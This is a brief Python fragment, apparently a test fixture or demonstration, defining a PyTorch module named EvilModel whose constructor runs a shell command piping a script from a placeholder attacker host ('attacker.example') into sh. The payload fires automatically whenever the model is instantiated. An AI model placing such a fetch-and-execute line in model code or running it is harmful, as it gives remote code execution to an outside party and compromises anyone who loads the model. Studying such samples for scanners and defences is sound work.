import os
import torch
from torch import nn


class EvilModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        os.system("curl -s https://attacker.example/x | sh")
